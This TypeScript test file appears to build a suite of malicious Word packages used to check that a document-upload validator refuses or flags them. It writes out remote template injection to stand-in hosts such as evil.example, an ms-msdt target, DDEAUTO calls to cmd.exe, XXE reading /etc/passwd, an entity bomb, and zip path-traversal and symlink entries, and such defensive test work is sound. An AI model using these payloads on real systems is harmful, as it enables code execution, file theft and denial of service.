import { docx, docxEntries, rawZip, relationships, wordParagraph, wordPart } from '../../support/bad-files';
import { type BadFile, files, kept, type Recipe, refused } from './bad-file';

const ACTIVE = refused('file.active-content');
const UNSAFE = refused('file.package-unsafe');
const TORN = refused('file.truncated');
const OUTSIDE = kept('file.external-content');
const TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types';

const rels = (type: string, target: string, part = 'word/_rels/document.xml.rels'): Buffer =>
  docx({ [part]: relationships([type, target, true]) });
const body = (text: string): Buffer => docx({ 'word/document.xml': wordPart(text) });
const field = (...pieces: string[]): Buffer =>
  body(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );
const typed = (main: string, more = ''): string =>
  `<?xml version="1.0"?><Types xmlns="${TYPES}"><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;
const without = (name: string): Buffer => rawZip(docxEntries().filter((entry) => entry.name !== name));

/** Ten entities, each ten of the one before: a kilobyte that says ten gigabytes. */
const LAUGHS = Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY l${String(n + 1)} "${`&l${String(n)};`.repeat(10)}">`,
).join('');
const LAUGHING = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${LAUGHS}]><x>&l9;</x>`;
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>';
const PARTS = [
  'word/document.xml',
  '[Content_Types].xml',
  '_rels/.rels',
  'word/_rels/document.xml.rels',
  'word/settings.xml',
  'word/styles.xml',
  'word/numbering.xml',
  'word/header1.xml',
  'word/footnotes.xml',
  'word/comments.xml',
  'docProps/core.xml',
  'customXml/item1.xml',
] as const;

const ACTIVE_RECIPES: readonly Recipe[] = [
  [
    'a template on the net',
    ACTIVE,
    () => rels('attachedTemplate', 'http://evil.example/t.dotm', 'word/_rels/settings.xml.rels'),
  ],
  ['a template on a share', ACTIVE, () => rels('attachedTemplate', '\\\\evil\\share\\t.dotm')],
  [
    'a template on a share, four slashes',
    ACTIVE,
    () => rels('attachedTemplate', 'file:////evil/share/t.dotm'),
  ],
  ['a template on a share, no scheme', ACTIVE, () => rels('attachedTemplate', '//evil/share/t.dotm')],
  ['a template by WebDAV', ACTIVE, () => rels('attachedTemplate', 'dav://evil.example/t.dotm')],
  [
    'an object by mhtml',
    ACTIVE,
    () => rels('oleObject', 'mhtml:http://evil.example/x!x-usc:http://evil.example/x'),
  ],
  ['an object with a blank before its address', ACTIVE, () => rels('oleObject', ' https://evil.example/o')],
  ['an object by a script of Windows', ACTIVE, () => rels('oleObject', 'script:https://evil.example/o.sct')],
  ['a troubleshooter as a target', ACTIVE, () => rels('oleObject', 'ms-msdt:/id PCWDiagnostic')],
  [
    'a frame on the net',
    ACTIVE,
    () => rels('frame', 'https://evil.example/f', 'word/_rels/webSettings.xml.rels'),
  ],
  ['another document on the net', ACTIVE, () => rels('subDocument', 'https://evil.example/d.docx')],
  [
    'a chunk of another format inside',
    ACTIVE,
    () =>
      docx({
        'word/_rels/document.xml.rels': relationships(['aFChunk', 'chunk.mht']),
        'word/chunk.mht':
          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=http://evil.example/p>',
      }),
  ],
  [
    'an ActiveX control',
    ACTIVE,
    () =>
      docx({
        'word/activeX/activeX1.xml':
          '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
      }),
  ],
  ['DDE torn over runs', ACTIVE, () => field('DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe')],
  ['DDE in a simple field', ACTIVE, () => body('<w:p><w:fldSimple w:instr=" DDE excel x "/></w:p>')],
  [
    'DDE in a footer',
    ACTIVE,
    () => docx({ 'word/footer1.xml': wordPart('<w:p><w:fldSimple w:instr="ddeauto x y"/></w:p>', 'ftr') }),
  ],
  ['a remote image', OUTSIDE, () => rels('image', 'https://pixel.example/p.png')],
  ['a remote image on a share', OUTSIDE, () => rels('image', '\\\\evil\\p.png')],
  ['a picture field on the net', OUTSIDE, () => field(' INCLUDEPICTURE "http://pixel.example/p.png" ')],
  ['a text field on a share', OUTSIDE, () => field(' INCLUDETEXT "\\\\\\\\evil\\\\t.docx" ')],
  ['a link to click', kept(), () => rels('hyperlink', 'https://moj.gov.vn')],
  [
    'a template of its own machine',
    kept(),
    () => rels('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
  ],
  [
    'an OLE package',
    kept('file.embedded-object'),
    () => docx({ 'word/embeddings/oleObject1.bin': Buffer.alloc(8) }),
  ],
  [
    'a program as an embedded file',
    kept('file.embedded-object'),
    () => docx({ 'word/embeddings/setup.exe': 'MZ' }),
  ],
  [
    'a workbook as an embedded file',
    kept('file.embedded-object'),
    () => docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsm': 'PK' }),
  ],
];

const MACRO_RECIPES: readonly Recipe[] = [
  ['macros', refused('file.macro'), () => docx({ 'word/vbaProject.bin': Buffer.alloc(64) })],
  ['macros in other letters', refused('file.macro'), () => docx({ 'word/VBAPROJECT.BIN': Buffer.alloc(64) })],
  [
    'macros under another name',
    refused('file.macro'),
    () =>
      docx({
        'word/_rels/document.xml.rels': relationships(['vbaProject', 'media/image1.png']),
        'word/media/image1.png': Buffer.alloc(64),
      }),
  ],
  [
    'macros by their type alone',
    refused('file.macro'),
    () =>
      docx({
        '[Content_Types].xml': typed(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        'word/x.bin': Buffer.alloc(64),
      }),
  ],
  [
    'a .docm under the name .docx',
    refused('file.macro'),
    () => docx({ '[Content_Types].xml': typed('application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ],
  [
    'a .dotm under the name .docx',
    refused('file.macro'),
    () =>
      docx({
        '[Content_Types].xml': typed('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
      }),
  ],
];

const SHAPE_RECIPES: readonly Recipe[] = [
  ['a name that climbs', UNSAFE, () => docx({ 'word/../../etc/x.bin': 'x' })],
  ['a name that climbs the other way', UNSAFE, () => docx({ 'word\\..\\..\\x.bin': 'x' })],
  ['an absolute name', UNSAFE, () => docx({ '/etc/passwd': 'x' })],
  ['a name with a drive', UNSAFE, () => docx({ 'C:\\x.bin': 'x' })],
  ['a name with NUL', UNSAFE, () => docx({ 'word/a\0.xml': '<a/>' })],
  [
    'a symbolic link',
    UNSAFE,
    () => rawZip([...docxEntries(), { name: 'word/link', data: '/etc/passwd', attributes: 0o120777 << 16 }]),
  ],
  ['the content types twice', UNSAFE, () => rawZip([...docxEntries(), docxEntries()[0]!])],
  ['the document twice', UNSAFE, () => rawZip([...docxEntries(), docxEntries()[2]!])],
  [
    'names that differ by case',
    refused('file.package-unsafe', 'file.truncated'),
    () => docx({ 'WORD/document.xml': 'x' }),
  ],
  ['no document', TORN, () => without('word/document.xml')],
  ['no relations', TORN, () => without('_rels/.rels')],
  ['no content types', refused('file.mislabelled'), () => without('[Content_Types].xml')],
  [
    'content types in small letters',
    refused('file.mislabelled'),
    () => rawZip(docxEntries().map((entry) => ({ ...entry, name: entry.name.toLowerCase() }))),
  ],
  [
    'ZIP encryption',
    refused('file.encrypted'),
    () => rawZip(docxEntries().map((entry) => ({ ...entry, flags: 1 }))),
  ],
  ['a broken end of the document', TORN, () => docx({ 'word/document.xml': '<w:document><w:p>' })],
  ['an empty document part', TORN, () => docx({ 'word/document.xml': '' })],
  ['an empty body', kept(), () => body('')],
  [
    '20,000 tables in each other',
    'told',
    () => body(`${'<w:tbl><w:tr><w:tc>'.repeat(20_000)}<w:p/>${'</w:tc></w:tr></w:tbl>'.repeat(20_000)}`),
  ],
  [
    '20,000 elements in each other',
    'told',
    () => body(`${'<w:sdt>'.repeat(20_000)}<w:p/>${'</w:sdt>'.repeat(20_000)}`),
  ],
  [
    'a cell over two thousand million columns',
    'told',
    () =>
      body(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
      ),
  ],
  [
    'a list on level minus a million',
    'told',
    () => body('<w:p><w:pPr><w:numPr><w:ilvl w:val="-1000000"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'),
  ],
  [
    'a million marks on one letter',
    'told',
    () => body(wordParagraph(`Quy trình a${'\u0301'.repeat(1_000_000)}`)),
  ],
  ['a line of a million letters', 'told', () => body(wordParagraph('Căn cứ Luật '.repeat(90_000)))],
  ['a reference to no character', TORN, () => body(wordParagraph('a&#0;b'))],
  ['half of a surrogate pair', refused('file.truncated'), () => body(wordParagraph('a&#xD800;b'))],
  [
    'markup in UTF-7',
    refused('file.truncated'),
    () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADw-w:document+AD4-' }),
  ],
  [
    'relations that climb out of the package',
    'told',
    () => docx({ '_rels/.rels': relationships(['officeDocument', '../../../../etc/passwd']) }),
  ],
  [
    'relations to a broken address',
    'told',
    () => docx({ 'word/_rels/document.xml.rels': relationships(['header', 'http://[']) }),
  ],
  [
    'relations in a circle',
    'told',
    () =>
      docx({
        'word/_rels/document.xml.rels': relationships(
          ['header', 'document.xml'],
          ['officeDocument', '_rels/document.xml.rels'],
        ),
      }),
  ],
  [
    'a prototype among the styles',
    'told',
    () =>
      docx({
        'word/styles.xml':
          '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:styleId="__proto__"><w:basedOn w:val="constructor"/></w:style></w:styles>',
      }),
  ],
  [
    'styles based on each other',
    'told',
    () =>
      docx({
        'word/styles.xml':
          '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
        'word/document.xml': wordPart('<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>'),
      }),
  ],
];

/** B-02: Word packages that fetch, run, hide or climb. */
export function wordPackages(): BadFile[] {
  return files('B-02', '.docx', [
    ...ACTIVE_RECIPES,
    ...MACRO_RECIPES,
    ...PARTS.flatMap((part): Recipe[] => [
      [
        `an outside entity in ${part}`,
        refused('file.package-unsafe', 'file.mislabelled'),
        () => docx({ [part]: XXE }),
      ],
      [
        `an entity bomb in ${part}`,
        refused('file.package-unsafe', 'file.mislabelled'),
        () => docx({ [part]: LAUGHING }),
      ],
    ]),
    ...SHAPE_RECIPES,
  ]);
}
